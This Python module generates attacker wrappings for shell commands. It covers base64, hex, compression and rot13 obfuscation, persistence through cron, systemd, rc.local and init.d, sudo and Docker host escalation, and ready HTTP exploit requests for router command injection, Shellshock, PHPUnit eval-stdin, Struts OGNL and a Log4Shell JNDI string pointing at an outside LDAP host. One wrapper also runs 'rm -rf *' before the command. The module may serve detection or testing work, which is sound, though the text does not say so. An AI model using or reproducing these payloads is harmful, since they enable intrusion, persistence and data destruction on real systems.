"""What attackers wrap a command line in: each function turns one into a text that a victim would end up running.

None where the command does not fit into that wrapping (several lines in a cron line, say).
"""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import html
import json
import lzma
import re
import shlex
import urllib.parse
from collections.abc import Callable

Wrap = Callable[[str], str | None]


def q(text: str) -> str:
    """As one word of a shell."""
    return shlex.quote(text)


def b64(text: str) -> str:
    """In base64."""
    return base64.b64encode(text.encode()).decode()


def packed(data: bytes) -> str:
    """Bytes in base64."""
    return base64.b64encode(data).decode()


def dq(text: str) -> str:
    """In double quotes."""
    return '"' + re.sub(r'([\\"$`])', r"\\\1", text) + '"'


def hexed(text: str, form: str) -> str:
    """Every byte in a form such as ``\\x%02x``."""
    return "".join(form % byte for byte in text.encode())


def one_line(wrap: Callable[[str], str], without: str = "") -> Wrap:
    """Only for commands of one line that hold none of the characters in `without`."""
    return lambda text: None if any(char in text for char in "\n" + without) else wrap(text)


HTTP = " HTTP/1.1\r\nHost: 203.0.113.5\r\n"


WRAPPERS: dict[str, Wrap] = {
    "plain": lambda t: t,
    "amp": lambda t: t + " &" if "<<E" not in t else t,
    "nohup-sh": lambda t: f"nohup sh -c {q(t)} >/dev/null 2>&1 &",
    "timeout-bash": lambda t: f"timeout 60 bash -c {q(t)}",
    "eval": lambda t: f"eval {q(t)}",
    "eval-sub": lambda t: f'eval "$(echo {b64(t)} | base64 -d)"',
    "bash-c-dq": lambda t: f"bash -c {dq(t)}",
    "procsub": lambda t: f"bash <(printf '%s' {q(t)})",
    "source-procsub": lambda t: f"source <(echo {b64(t)}|base64 --decode)",
    "cron-pipe": lambda t: (
        f"(crontab -l 2>/dev/null; echo {q('*/5 * * * * sh -c ' + q(t).replace(chr(10), ';'))}) | crontab -"
        if "\n" not in t and "%" not in t
        else None
    ),
    "cron-d": lambda t: (
        f"echo {q('* * * * * root ' + t)} > /etc/cron.d/a" if "\n" not in t and "%" not in t else None
    ),
    "cron-heredoc": lambda t: (
        f"cat > /etc/cron.d/x <<'EOFX'\nSHELL=/bin/bash\nPATH=/bin\n*/10 * * * * root bash -c {q(t)}\nEOFX"
        if "\n" not in t and "%" not in t
        else None
    ),
    "systemd": lambda t: (
        "cat > /etc/systemd/system/x.service <<'EOFX'\n[Unit]\nDescription=x\n[Service]\nType=simple\n"
        f"ExecStart=/bin/bash -c {q(t)}\n[Install]\nWantedBy=multi-user.target\nEOFX\nsystemctl enable --now x"
        if "\n" not in t
        else None
    ),
    "systemd-printf": lambda t: (
        "printf '[Service]\\nExecStart=/bin/sh -c \"%s\"\\n' " + q(t) + " > /lib/systemd/system/u.service"
        if "\n" not in t and '"' not in t
        else None
    ),
    "rclocal": lambda t: f"sed -i '/exit 0/d' /etc/rc.local; echo {q(t)} >> /etc/rc.local",
    "initd": lambda t: (
        f"cat <<'EOFX' > /etc/init.d/S99x\n#!/bin/sh\ncase $1 in start)\n{t}\n;; esac\nEOFX\nchmod +x /etc/init.d/S99x"
    ),
    "profile": lambda t: f"echo {q(t)} > /etc/profile.d/a.sh",
    "heredoc-sh": lambda t: f"sh <<'EOFX'\n{t}\nEOFX",
    "heredoc-file": lambda t: f"cat > /tmp/.a <<'EOFX'\n{t}\nEOFX\nchmod 777 /tmp/.a; /tmp/.a",
    "echo-file": lambda t: f"echo {q(t)} > /tmp/a.sh; sh /tmp/a.sh &",
    "var": lambda t: f'c={q(t)}; eval "$c"',
    "var-bash": lambda t: f'c={q(t)}\nbash -c "$c"',
    "array": lambda t: f'a=(bash -c {q(t)}); "${{a[@]}}"',
    "fn": lambda t: f"function zz() {{\n{t}\n}}\nzz",
    "fn-arg": lambda t: f'r() {{ sh -c "$1"; }}; r {q(t)}',
    "for": lambda t: f"for i in 1 2; do\n{t}\ndone",
    "while": lambda t: f"while :; do\n{t}\nsleep 60\ndone",
    "until": lambda t: f"until ping -c1 8.8.8.8; do sleep 1; done\n{t}",
    "if": lambda t: f'if [ "$(id -u)" = 0 ]; then\n{t}\nelse\necho no\nfi',
    "else": lambda t: f"if ! command -v zz >/dev/null; then\ntrue\nelse\n{t}\nfi",
    "case": lambda t: f'case "$(uname -m)" in\nx86_64)\n{t}\n;;\n*) exit 1;;\nesac',
    "subshell": lambda t: f"(\n{t}\n)",
    "b64": lambda t: f"echo {b64(t)} | base64 -d | bash",
    "b64-i": lambda t: f"echo -n '{b64(t)}' | base64 -di | sh",
    "b64-herestr": lambda t: f"base64 -d <<< {b64(t)} | sh",
    "b64-2": lambda t: f"echo {b64('echo ' + b64(t) + '|base64 -d|sh')} | base64 -d | bash",
    "b64-openssl": lambda t: f"echo {b64(t)} | openssl base64 -A -d | sh",
    "b64-openssl-enc": lambda t: f"echo {b64(t)} | openssl enc -base64 -d -A | sh",
    "b64-py": lambda t: f"python3 -c \"import base64,os;os.system(base64.b64decode('{b64(t)}').decode())\"",
    "b64-py-exec": lambda t: f"python -c \"exec('{b64(f'import os;os.system({t!r})')}'.decode('base64'))\"",
    "b64-perl": lambda t: f"perl -MMIME::Base64 -e \"system(decode_base64('{b64(t)}'))\"",
    "b64-php": lambda t: f"php -r \"system(base64_decode('{b64(t)}'));\"",
    "b64-ruby": lambda t: f"ruby -rbase64 -e \"system(Base64.decode64('{b64(t)}'))\"",
    "b64-node": lambda t: (
        f"node -e \"require('child_process').exec(Buffer.from('{b64(t)}','base64').toString())\""
    ),
    "b64-file": lambda t: f"echo {b64(t)} > /tmp/x.b64; base64 -d /tmp/x.b64 > /tmp/x.sh; sh /tmp/x.sh",
    "b32": lambda t: f"echo {base64.b32encode(t.encode()).decode()} | base32 -d | sh",
    "hex-xxd": lambda t: f"echo {t.encode().hex()} | xxd -r -p | sh",
    "hex-xxd2": lambda t: f"xxd -p -r <<< {t.encode().hex()} | bash",
    "hex-printf": lambda t: "printf '" + hexed(t, "\\x%02x") + "' | sh",
    "hex-echo-e": lambda t: "echo -e '" + hexed(t, "\\x%02x") + "' | sh",
    "hex-echo-ne": lambda t: 'echo -ne "' + hexed(t, "\\\\x%02x") + '" > /tmp/a; sh /tmp/a',
    "hex-dollar": lambda t: "bash -c $'" + hexed(t, "\\x%02x") + "'",
    "oct-printf": lambda t: "printf '" + hexed(t, "\\%03o") + "' | sh",
    "oct-echo": lambda t: "echo -en '" + hexed(t, "\\0%03o") + "' | bash",
    "oct-dollar": lambda t: "eval $'" + hexed(t, "\\%03o") + "'",
    "hex-perl": lambda t: f"perl -e \"print pack('H*','{t.encode().hex()}')\" | sh",
    "hex-py": lambda t: f"python3 -c \"print(bytes.fromhex('{t.encode().hex()}').decode())\" | sh",
    "hex-py-os": lambda t: (
        f"python3 -c \"import os;os.system(bytes.fromhex('{t.encode().hex()}').decode())\""
    ),
    "rev": lambda t: f"echo {q(t[::-1])} | rev | sh" if "\n" not in t else None,
    "tr-rot13": lambda t: f"echo {q(codecs.encode(t, 'rot13'))} | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
    "sed": lambda t: f"echo {q(t.replace('e', '@@'))} | sed 's/@@/e/g' | sh",
    "gzip-b64": lambda t: f"echo {packed(gzip.compress(t.encode()))} | base64 -d | gunzip | sh",
    "gzip-dc": lambda t: f"base64 -d <<<'{packed(gzip.compress(t.encode()))}' | gzip -dc | bash",
    "zcat": lambda t: (
        f"echo {packed(gzip.compress(t.encode()))} | base64 -d > /tmp/a.gz; zcat /tmp/a.gz | sh"
    ),
    "bz2": lambda t: f"echo {packed(bz2.compress(t.encode()))} | base64 -d | bzip2 -d | sh",
    "xz": lambda t: f"echo {packed(lzma.compress(t.encode()))} | base64 -d | xz -d | sh",
    "xargs-sh": lambda t: (
        f"echo {q(t)} | xargs -I{{}} sh -c '{{}}'"
        if "\n" not in t and "'" not in t and '"' not in t and "\\" not in t
        else None
    ),
    "xargs-0": lambda t: f"printf '%s\\0' {q(t)} | xargs -0 bash -c",
    "parallel": lambda t: f"parallel -j2 sh -c ::: {q(t)}",
    "py-system": lambda t: f"python3 -c {q(f'import os; os.system({t!r})')}",
    "py-subprocess": lambda t: f"python3 -c {q(f'import subprocess; subprocess.Popen({t!r}, shell=True)')}",
    "py-argv": lambda t: "python3 -c " + q(f'import subprocess as s; s.call(["bash","-c",{t!r}])'),
    "perl-system": lambda t: "perl -e " + q(f"system(q~{t}~);") if "~" not in t else None,
    "php-exec": lambda t: "php -r " + q("shell_exec({});".format(json.dumps(t).replace("$", "\\$"))),
    "ruby-bt": lambda t: "ruby -e " + q("system {}".format(json.dumps(t).replace("#", "\\#"))),
    "node-exec": lambda t: (
        f"node -e {q('require({}).execSync({})'.format(json.dumps('child_process'), json.dumps(t)))}"
    ),
    "awk": lambda t: f"awk {q(f'BEGIN{{system({json.dumps(t)})}}')}",
    "find-exec": lambda t: f"find /tmp -maxdepth 1 -exec sh -c {q(t)} \\;",
    "ssh": lambda t: f"ssh -o StrictHostKeyChecking=no root@127.0.0.1 {q(t)}",
    "docker": lambda t: f"docker run --rm -v /:/h alpine chroot /h sh -c {q(t)}",
    "su": lambda t: f"su - root -c {q(t)}",
    "sudo": lambda t: f"sudo -n bash -c {q(t)}",
    "sudo-S": lambda t: f"echo password | sudo -S sh -c {q(t)}",
    "setsid": lambda t: f"setsid bash -c {q(t)} </dev/null &",
    "screen": lambda t: f"screen -dmS x bash -c {q(t)}",
    "tmux": lambda t: f"tmux new-session -d {q(t)}",
    "at": lambda t: f"echo {q(t)} | at now + 1 minute",
    "trap": lambda t: f"trap {q(t)} EXIT",
    "busybox-sh": lambda t: f"/bin/busybox sh -c {q(t)}",
    "env-i": lambda t: f"env -i PATH=/bin:/usr/bin bash -c {q(t)}",
    "exec": lambda t: f"exec bash -c {q(t)}",
    "coproc": lambda t: f"coproc bash -c {q(t)}",
    "cmdsub": lambda t: f"x=$(bash -c {q(t)})",
    "backtick": lambda t: f"x=`echo {b64(t)}|base64 -d|sh`",
    "dot": lambda t: f"echo {q(t)} > /dev/shm/x; . /dev/shm/x",
    "pipe-bash-s": lambda t: f"echo {q(t)} | bash -s -- arg",
    "tee": lambda t: f"echo {q(t)} | tee /tmp/x >/dev/null; bash /tmp/x",
    "dd": lambda t: f"echo {q(t)} | dd of=/tmp/x 2>/dev/null; bash /tmp/x",
    "redir-in": lambda t: f"echo {q(t)} > /tmp/x; bash < /tmp/x",
    "cat-pipe": lambda t: f"echo {q(t)} > /tmp/x; cat /tmp/x | bash",
    "chain": lambda t: f"cd /tmp || cd /var/run || cd /mnt; rm -rf *; {t}",
    "and-false": lambda t: f"false && {{ {t}\n}}",
    "script-head": lambda t: (
        f"#!/bin/bash\nulimit -n 65535\nexport PATH=$PATH:/bin\nsetenforce 0 2>/dev/null\n{t}\nexit 0\n"
    ),
    "http-q": lambda t: (
        "GET /cgi-bin/x.cgi?cmd=" + urllib.parse.quote(t, safe="") + " HTTP/1.1\r\nHost: 203.0.113.5\r\n\r\n"
    ),
    "http-q-semi": lambda t: (
        "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$("
        + urllib.parse.quote(t, safe="")
        + ") HTTP/1.1\r\nHost: 203.0.113.5\r\nUser-Agent: x\r\n\r\n"
        if "(" not in t
        else None
    ),
    "http-q-twice": lambda t: (
        "GET /x?cmd="
        + urllib.parse.quote(urllib.parse.quote(t, safe=""), safe="")
        + " HTTP/1.1\r\nHost: 203.0.113.5\r\n\r\n"
    ),
    "http-body": lambda t: (
        "POST /GponForm/diag_Form?images/" + HTTP + "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
        "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`"
        + urllib.parse.quote(t, safe="")
        + "`&ipv=0"
        if "`" not in t
        else None
    ),
    "http-json": lambda t: (
        "POST /api HTTP/1.1\r\nHost: 203.0.113.5\r\nContent-Type: application/json\r\n\r\n"
        + json.dumps({"method": "x", "params": {"command": t}})
    ),
    "http-json-argv": lambda t: (
        "POST /containers/create HTTP/1.1\r\nHost: 203.0.113.5:2375\r\nContent-Type: application/json\r\n\r\n"
        + json.dumps({"Image": "alpine", "Cmd": ["chroot", "/mnt", "/bin/sh", "-c", t]})
    ),
    "http-soap": lambda t: (
        "POST /ctrlt/DeviceUpgrade_1" + HTTP + '\r\n<?xml version="1.0" ?>'
        '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>'
        '<u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$('
        + html.escape(t)
        + ")</NewStatusURL></u:Upgrade></s:Body></s:Envelope>"
        if "(" not in t
        else None
    ),
    "shellshock": lambda t: (
        "GET / HTTP/1.1\r\nHost: 203.0.113.5\r\nUser-Agent: () { :;}; /bin/bash -c " + q(t) + "\r\n\r\n"
        if "\n" not in t
        else None
    ),
    "multipart": lambda t: (
        "POST /u" + HTTP + "Content-Type: multipart/form-data; boundary=xx\r\n\r\n"
        '--xx\r\nContent-Disposition: form-data; name="cmd"\r\n\r\n' + t + "\r\n--xx--\r\n"
    ),
    "jndi": lambda t: "${jndi:ldap://9.8.7.6:1389/Basic/Command/Base64/" + b64(t) + "}",
    "php-post": lambda t: (
        "POST /vendor/phpunit/src/Util/PHP/eval-stdin.php"
        + HTTP
        + "\r\n<?php shell_exec(base64_decode('"
        + b64(t)
        + "')); ?>"
    ),
    "pycode-http": lambda t: (
        "POST /x HTTP/1.1\r\nHost: 203.0.113.5\r\nContent-Type: application/json\r\n\r\n"
        + json.dumps({"code": f"__import__('os').system({t!r})"})
    ),
    "ognl": lambda t: (
        "POST /x.action HTTP/1.1\r\nHost: 203.0.113.5\r\nContent-Type: %{(#nike='multipart/form-data').(#cmd='"
        + t
        + "').(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds)).(#process=#p.start())}\r\n\r\n"
        if "\n" not in t and "'" not in t
        else None
    ),
}
